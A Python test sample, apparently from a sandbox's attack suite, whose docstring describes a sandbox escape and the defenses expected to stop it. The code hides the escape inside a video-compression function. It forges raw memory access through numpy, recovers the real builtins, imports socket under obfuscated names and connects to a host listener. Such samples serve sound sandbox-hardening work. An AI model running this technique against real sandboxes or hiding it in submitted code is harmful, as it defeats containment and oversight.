"""Attack: type(*parts) builds a class with three arguments that the old rule counted as one
(it counted the call's argument nodes, and a starred list is a single node). The class maps
memory through a computed "__array_interface__"; the attack forges a reference to the real
builtins out of a standard-library function, imports the socket module with them and
connects to the test's listener on the host.

Expected: rejected statically (type() takes one plain argument). With static validation off
the socket trips the audit hook (violation); seccomp kills the socket call, and bubblewrap's
network namespace has no route to the host.
"""
import lzma

import numpy as np

SPECIAL = "_" * 2 + "array_interface" + "_" * 2


def address_of(value):
    return int(repr(value).rsplit(" ", 1)[1].rstrip(">"), 16)  # "<function f at 0x7f...>"


def memory(address, size):
    interface = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}
    return np.asarray(type(*["View", (), {SPECIAL: interface}])())


def word(address, value=None):
    if value is not None:
        memory(address, 8)[:] = np.frombuffer(value.to_bytes(8, "little"), np.uint8)
    return int.from_bytes(memory(address, 8).tobytes(), "little")


def holder(value=None):
    return value


def object_at(address):
    word(address, word(address) + 1)
    word(word(address_of(holder) + 56) + 24, address)  # holder's first default
    return holder()


def compress_video_frame(frame, frame_index, config):
    real_builtins = object_at(word(address_of(lzma.compress) + 24))
    network = real_builtins["_" * 2 + "import" + "_" * 2]("sock" + "et")
    network.create_connection(("127.0.0.1", config["tcp_port"]), timeout=1).sendall(b"pwned")
    return b"ESCAPED:connected to the host"


def decompress_video_frame(data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
